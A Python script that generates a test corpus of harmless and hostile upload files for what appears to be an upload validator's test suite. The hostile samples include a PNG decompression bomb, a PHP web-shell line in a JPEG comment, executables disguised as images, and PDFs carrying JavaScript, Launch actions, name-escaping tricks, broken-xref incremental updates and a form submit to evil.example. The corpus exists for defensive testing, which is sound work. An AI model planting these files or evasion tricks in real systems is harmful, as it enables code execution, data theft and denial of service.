"""Writes the hostile (and the harmless) upload corpus next to this file.

Run once with `.venv/bin/python tests/reinscription/corpus/generer.py`; the files are
kept in the repository so that the tests read exactly these bytes. The 2 MB + 1 byte
file is made by the tests themselves.
"""

import io
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter

ICI = Path(__file__).parent


def png(taille=(40, 30), couleur=(29, 78, 137)) -> bytes:
    tampon = io.BytesIO()
    Image.new("RGB", taille, couleur).save(tampon, format="PNG")
    return tampon.getvalue()


def jpeg() -> bytes:
    tampon = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 40, 40)).save(tampon, format="JPEG", quality=85)
    return tampon.getvalue()


def pdf(js: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if js:
        from pypdf.actions import JavaScript

        writer.add_open_action(JavaScript(js))
    tampon = io.BytesIO()
    writer.write(tampon)
    return tampon.getvalue()


def pdf_brut(corps: bytes) -> bytes:
    """A hand-written PDF whose catalog holds `corps` (escaped names and all)."""
    objets = [
        b"<< /Type /Catalog /Pages 2 0 R " + corps + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    sortie = io.BytesIO()
    sortie.write(b"%PDF-1.4\n")
    positions = []
    for numero, objet in enumerate(objets, start=1):
        positions.append(sortie.tell())
        sortie.write(b"%d 0 obj\n" % numero + objet + b"\nendobj\n")
    xref = sortie.tell()
    sortie.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objets) + 1))
    for position in positions:
        sortie.write(b"%010d 00000 n \n" % position)
    sortie.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objets) + 1, xref)
    )
    return sortie.getvalue()


def bombe_png(cote=20000) -> bytes:
    """A 1-bit PNG of cote x cote pixels, all zero: a few kB that decode to gigabytes."""
    import struct

    def morceau(type_, donnees):
        return (
            struct.pack(">I", len(donnees))
            + type_
            + donnees
            + struct.pack(">I", zlib.crc32(type_ + donnees) & 0xFFFFFFFF)
        )

    ligne = b"\x00" * (1 + cote // 8)
    compresseur = zlib.compressobj(9)
    brut = b"".join(compresseur.compress(ligne) for _ in range(cote)) + compresseur.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + morceau(b"IHDR", struct.pack(">IIBBBBB", cote, cote, 1, 0, 0, 0, 0))
        + morceau(b"IDAT", brut)
        + morceau(b"IEND", b"")
    )


def pdf_incremental(ajout: bytes, decalage_xref: int = 0, base_corps: bytes = b"") -> bytes:
    """A clean PDF followed by an incremental update adding `ajout` (objects redefining
    the catalog, 1 0 obj, and object 4), its xref offsets shifted by `decalage_xref`
    (wrong offsets: lenient parsers read the first revision, viewers rebuild)."""
    base = pdf_brut(base_corps)
    xref_base = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    sortie = io.BytesIO(base)
    sortie.seek(0, 2)
    positions = {}
    for numero, objet in ajout_objets(ajout).items():
        positions[numero] = sortie.tell()
        sortie.write(b"%d 0 obj\n" % numero + objet + b"\nendobj\n")
    xref = sortie.tell()
    sortie.write(b"xref\n0 1\n0000000000 65535 f \n")
    for numero, position in sorted(positions.items()):
        sortie.write(b"%d 1\n%010d 00000 n \n" % (numero, position + decalage_xref))
    sortie.write(
        b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (xref_base, xref + decalage_xref)
    )
    return sortie.getvalue()


def ajout_objets(catalogue_en_plus: bytes) -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue_en_plus + b" >>",
        4: b"<< /S /JavaScript /JS (app.alert(1)) >>",
    }


def pdf_pikepdf(construire, **options) -> bytes:
    """A PDF made with pikepdf (qpdf), e.g. with its objects in compressed streams."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    construire(pdf)
    tampon = io.BytesIO()
    pdf.save(tampon, **options)
    return tampon.getvalue()


def _js_dans_un_flux_objet(pdf) -> None:
    import pikepdf

    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    pdf.Root.OpenAction = action


def _annotation(action: bytes) -> bytes:
    return (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << " + action + b" >> >>]"
    )


def pdf_page(corps_page: bytes) -> bytes:
    """Like pdf_brut, with `corps_page` in the page's dictionary."""
    return pdf_brut(b"").replace(
        b"/MediaBox [0 0 200 200] >>", b"/MediaBox [0 0 200 200] " + corps_page + b" >>"
    )


def pdf_page_xref(corps_page: bytes) -> bytes:
    """pdf_page with its xref recomputed (the page object grew)."""
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf_page(corps_page))) as pdf:  # repaired once, here
        tampon = io.BytesIO()
        pdf.save(
            tampon, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable
        )
        return tampon.getvalue()


def jpeg_commente() -> bytes:
    """A JPEG with a COM segment holding PHP, and EXIF with a GPS position."""
    image = Image.new("RGB", (40, 30), (200, 40, 40))
    exif = Image.Exif()
    exif[0x0110] = "Appareil espion"  # Model
    exif[0x8825] = {1: "N", 2: (49.0, 30.0, 0.0)}  # GPS
    tampon = io.BytesIO()
    image.save(
        tampon, format="JPEG", quality=85, exif=exif, comment=b"<?php system($_GET['c']); ?>"
    )
    return tampon.getvalue()


def png_texte() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 49.5N</x:xmpmeta>")
    tampon = io.BytesIO()
    Image.new("RGB", (40, 30), (29, 78, 137)).save(tampon, format="PNG", pnginfo=info)
    return tampon.getvalue()


def png_geant(cote=6300) -> bytes:
    """A few hundred kB of PNG that decodes to cote×cote RGB pixels (119 MB at 6300)."""
    tampon = io.BytesIO()
    Image.new("RGB", (cote, cote), (255, 255, 255)).save(tampon, format="PNG", optimize=True)
    return tampon.getvalue()


FICHIERS = {
    # Accepted
    "photo.jpg": jpeg(),
    "photo.png": png(),
    "attestation.pdf": pdf(),
    # Neutralised: HTML appended to a real JPEG is dropped by re-encoding.
    "jpeg_avec_html.jpg": jpeg()
    + b"<html><body><script>alert(document.cookie)</script></body></html>",
    # Refused
    "image.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "image_svg.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "page_html.pdf": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "programme.png": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x00" * 200,
    "elf.png": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200,
    "bombe.png": bombe_png(),
    "javascript.pdf": pdf(js="app.alert('hello');"),
    "javascript_cache.pdf": pdf_brut(b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>"),
    "lancement.pdf": pdf_brut(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "png_nomme.jpg": png(),
    "faux.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"\x13" * 300,
    # Issue 10: what passed the first checks.
    "incremental_js_xref_faux.pdf": pdf_incremental(
        b"/OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >>", decalage_xref=37
    ),
    "incremental_js.pdf": pdf_incremental(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>"),
    "ancienne_revision_js.pdf": pdf_incremental(
        b"", base_corps=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    ),
    "js_flux_objet.pdf": pdf_pikepdf(
        _js_dans_un_flux_objet,
        compress_streams=True,
        object_stream_mode=__import__("pikepdf").ObjectStreamMode.generate,
    ),
    "xfa_script.pdf": pdf_brut(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>"),
    "submitform.pdf": pdf_page_xref(_annotation(b"/S /SubmitForm /F (https://evil.example/)")),
    "gotor.pdf": pdf_page_xref(_annotation(b"/S /GoToR /F (autre.pdf) /D [0 /Fit]")),
    "importdata.pdf": pdf_page_xref(_annotation(b"/S /ImportData /F (donnees.fdf)")),
    "richmedia.pdf": pdf_page_xref(
        b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"
    ),
    "fichier_joint.pdf": pdf_brut(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>"
    ),
    "lancement_echappe.pdf": pdf_page_xref(_annotation(b"/S /La#75nch /F (calc.exe)")),
    "xref_casse.pdf": pdf_brut(b"").replace(b"startxref\n", b"startxref\n9"),
    "jpeg_commentaire.jpg": jpeg_commente(),
    "png_texte.png": png_texte(),
    "png_geant.png": png_geant(),
}

if __name__ == "__main__":
    for nom, contenu in FICHIERS.items():
        (ICI / nom).write_bytes(contenu)
        print(nom, len(contenu))
